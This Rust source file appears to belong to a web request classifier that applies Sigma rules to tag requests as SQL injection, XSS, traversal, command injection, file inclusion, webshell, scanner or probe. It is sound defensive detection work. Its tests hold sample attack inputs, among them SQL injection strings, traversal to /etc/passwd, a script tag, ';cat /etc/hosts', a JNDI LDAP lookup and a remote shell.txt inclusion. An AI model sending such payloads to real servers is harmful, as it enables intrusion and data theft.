//! What a request tried, by Sigma rules of our own (`attack/rules/*.yml`).
//!
//! A rule's tags name its ATT&CK technique and a class of this crate. Rules see
//! decoded text, so most requests never reach them: a query of letters, digits
//! and signs that stand in every query is passed over, and what a path is worth
//! is remembered. Marks of commodity tools say what was done and never who did
//! it, so no class here identifies anybody.

use rsigma_eval::{Engine, Event, EventValue};
use rsigma_parser::{Detection, DetectionItem, SigmaValue};
use serde_json::Value;

use crate::decode::decoded;
use crate::key::{self, KeyMap};
use crate::request::Request;

mod class;
mod gate;
mod spelling;

pub use class::{Class, Classes};

use gate::{odd_path, odd_query};
use spelling::{numberless, without_comments, without_quoting};

/// Why rules do not load; those that ship do, which a test shows.
#[derive(Debug)]
pub struct BadRules(String);

impl std::fmt::Display for BadRules {
    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(out, "Sigma rules of web attacks: {}", self.0)
    }
}

impl std::error::Error for BadRules {}

const RULES: [&str; 8] = [
    include_str!("attack/rules/sqli.yml"),
    include_str!("attack/rules/xss.yml"),
    include_str!("attack/rules/traversal.yml"),
    include_str!("attack/rules/command.yml"),
    include_str!("attack/rules/inclusion.yml"),
    include_str!("attack/rules/shell.yml"),
    include_str!("attack/rules/scanner.yml"),
    include_str!("attack/rules/probe.yml"),
];

/// Texts whose verdict is remembered; all are forgotten when there are more.
const REMEMBERED: usize = 1 << 16;

/// Tells what requests try.
pub struct Classifier {
    engine: Engine,
    known: KeyMap<Classes>,
}

impl Classifier {
    /// A classifier with the rules that ship.
    ///
    /// # Errors
    /// If a rule is malformed.
    pub fn shipped() -> Result<Self, BadRules> {
        let mut engine = Engine::new();
        for text in RULES {
            let mut rules = rsigma_parser::parse_sigma_yaml(text).map_err(|error| BadRules(error.to_string()))?;
            if let Some(error) = rules.errors.first() {
                return Err(BadRules(error.clone()));
            }
            let named = rules.rules.iter_mut().flat_map(|rule| rule.detection.named.values_mut());
            named.for_each(set_apart);
            engine.add_collection(&rules).map_err(|error| BadRules(error.to_string()))?;
        }
        Ok(Self { engine, known: KeyMap::default() })
    }

    /// The classes of attack in a request: its path, query, agent and Referer.
    pub fn classes(&mut self, request: &Request<'_>) -> Classes {
        self.path(request) | self.query(request) | self.agent(request.user_agent) | self.referer(request.referer)
    }

    /// The classes of attack in a value by itself.
    pub fn text(&self, text: &str) -> Classes {
        self.disguised(text, "")
    }

    fn path(&mut self, request: &Request<'_>) -> Classes {
        let path = decoded(request.path, false);
        let look = Look { text: &path, path: &path, method: request.method, ..Look::default() };
        if path.len() > 512 || odd_path(&path) {
            return self.look(&look);
        }
        self.remembered(key::of(&["path", &numberless(&path), request.method]), &look)
    }

    fn query(&self, request: &Request<'_>) -> Classes {
        if request.query.is_empty() {
            return Classes::NONE;
        }
        let query = decoded(request.query, true);
        if !odd_query(&query) {
            return Classes::NONE;
        }
        self.disguised(&query, "?")
    }

    /// What a text tries as it stands, to a database, and to a shell.
    fn disguised(&self, text: &str, query: &str) -> Classes {
        let spellings = [text.into(), without_comments(text), without_quoting(text)];
        let new = |at: &usize| spellings[..*at].iter().all(|before| *before != spellings[*at]);
        let looks = (0..spellings.len()).filter(new).map(|at| Look { text: &spellings[at], query, ..Look::default() });
        looks.fold(Classes::NONE, |classes, look| classes | self.look(&look))
    }

    fn agent(&mut self, agent: &str) -> Classes {
        if agent.is_empty() {
            return Classes::NONE;
        }
        let agent = &*decoded(agent, false);
        // Agents are full of brackets and semicolons: only what no browser writes is read as an attack.
        let strange = ["<", "'", "${", "() {", "$(", "`", "../", "\\x"].iter().any(|mark| agent.contains(mark));
        // A product with its version is one; a sentence or a path is none.
        let product = agent.split(['/', ' ']).next().is_some_and(|name| {
            !name.is_empty() && name.len() < agent.len() && agent.as_bytes().get(name.len()) == Some(&b'/')
        });
        let typed = !product
            && (agent.starts_with('/')
                || agent.contains(" -")
                || agent.contains("/.")
                || agent.contains(" /")
                || agent.contains("=/")
                || agent.contains('(')
                || agent.contains(';'));
        let text = if strange || typed { agent } else { "" };
        self.remembered(key::of(&["agent", agent]), &Look { agent, text, query: "?", ..Look::default() })
    }

    fn referer(&mut self, referer: &str) -> Classes {
        // What is no address was typed by nobody's browser.
        let no_address = !referer.is_empty() && !referer.contains("://") && referer.contains([' ', '/', ';']);
        let marks = |byte| matches!(byte, b'%' | b'<' | b'\'' | b'"' | b'$' | b'{' | b'`' | b';' | b'|');
        if !no_address && !referer.bytes().any(marks) {
            return Classes::NONE;
        }
        let text = decoded(referer, true);
        let strange =
            no_address || ["<", "'", "\"", "${", "`", "../", "\\", ";", "|"].iter().any(|mark| text.contains(mark));
        // A search engine's address holds whatever its user typed.
        let query = text.split_once('?').map_or(&*text, |(_, query)| query);
        if strange { self.disguised(query, "?") } else { Classes::NONE }
    }

    fn remembered(&mut self, key: u64, look: &Look<'_>) -> Classes {
        if let Some(classes) = self.known.get(&key) {
            return *classes;
        }
        if self.known.len() >= REMEMBERED {
            self.known.clear();
        }
        let classes = self.look(look);
        self.known.insert(key, classes);
        classes
    }

    fn look(&self, look: &Look<'_>) -> Classes {
        let hits = self.engine.evaluate(look);
        let tags = hits.iter().flat_map(|hit| &hit.header.tags);
        tags.filter_map(|tag| Class::from_tag(tag)).fold(Classes::NONE, Classes::with)
    }
}

/// Writes a list of patterns as alternatives, which means the same. The engine
/// would make one automaton of a list, too large to be run in linear steps: by
/// themselves the patterns are several times as fast.
fn set_apart(detection: &mut Detection) {
    if let Detection::AllOf(items) = detection
        && let [DetectionItem { field, values }] = items.as_slice()
    {
        let alone = |value: &SigmaValue| DetectionItem { field: field.clone(), values: vec![value.clone()] };
        *detection = Detection::AnyOf(values.iter().map(|value| Detection::AllOf(vec![alone(value)])).collect());
    }
}

/// What the rules see of a request.
#[derive(Default)]
struct Look<'a> {
    text: &'a str,
    path: &'a str,
    query: &'a str,
    method: &'a str,
    agent: &'a str,
}

impl Look<'_> {
    fn fields(&self) -> [(&'static str, &str); 5] {
        [
            ("text", self.text),
            ("path", self.path),
            ("query", self.query),
            ("method", self.method),
            ("agent", self.agent),
        ]
    }
}

impl Event for Look<'_> {
    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
        let fields = self.fields();
        let (_, value) = fields.into_iter().find(|(name, _)| *name == path)?;
        Some(EventValue::Str(value.into()))
    }

    fn any_string_value(&self, wanted: &dyn Fn(&str) -> bool) -> bool {
        self.fields().iter().any(|(_, value)| wanted(value))
    }

    fn all_string_values(&self) -> Vec<std::borrow::Cow<'_, str>> {
        self.fields().into_iter().map(|(_, value)| value.into()).collect()
    }

    fn to_json(&self) -> Value {
        self.fields().into_iter().map(|(name, value)| (name.to_owned(), Value::from(value))).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_are_classed() {
        let mut classifier = Classifier::shipped().expect("the rules load");
        let cases = [
            ("GET", "/record", "id=20500358", ""),
            ("GET", "/search", "last=O%27Brien&first=Mary+Ann&dob=1980-02-03", ""),
            ("GET", "/search", "q=polling+place+for+12+Main+Street", ""),
            ("GET", "/forms/absentee.pdf", "", ""),
            ("GET", "/login", "next=/account/settings", ""),
            ("GET", "/record", "id=1%27%20OR%20%271%27%3D%271", "sqli"),
            ("GET", "/record", "id=-1%20UNION%20SELECT%20NULL%2CNULL--%20", "sqli"),
            ("GET", "/record", "id=-1/**/UN/**/ION/*!50000SELECT*/NULL", "sqli"),
            ("GET", "/record", "id=1%20AND%207821%3D7821", "sqli"),
            ("GET", "/record", "id=1%2527%2520OR%2520%25271%2527%253D%25271", "sqli"),
            ("GET", "/download", "file=..%2F..%2Fetc%2Fpasswd", "traversal"),
            ("GET", "/download", "file=%c0%ae%c0%ae%c0%afx", "traversal"),
            ("GET", "/a/..%252f..%252fx", "", "traversal"),
            ("PUT", "/uploads/0b1.aspx", "", "webshell-upload"),
            ("GET", "/uploads/0b1.aspx", "", "webshell"),
            ("GET", "/", "v[$acunetix]=1", "scan"),
            ("GET", "/wp-login.php", "", "probe"),
            ("GET", "/x", "q=<script>alert(1)</script>", "xss"),
            ("GET", "/x", "c=;cat%20/etc/hosts", "command"),
            ("GET", "/x", "q=${jndi:ldap://a.example/x}", "java"),
            ("GET", "/x", "page=http://files.example/shell.txt", "inclusion"),
        ];
        for (method, path, query, expected) in cases {
            let classes = classifier.classes(&Request { method, path, query, ..Request::default() });
            let words: Vec<_> = classes.words().collect();
            assert_eq!(words.is_empty(), expected.is_empty(), "{path}?{query}: {words:?}");
            assert!(expected.is_empty() || words.contains(&expected), "{path}?{query}: {words:?}");
        }
    }

    #[test]
    fn browsers_are_no_scanners() {
        let mut classifier = Classifier::shipped().expect("the rules load");
        for agent in [
            "Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9) Gecko Firefox/3.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 16_4 like Mac OS X) AppleWebKit/605.1.15",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ] {
            assert_eq!(classifier.agent(agent), Classes::NONE, "{agent}");
        }
        assert!(classifier.agent("sqlmap/1.7.2#stable (https://sqlmap.org)").has(Class::Scan));
    }
}
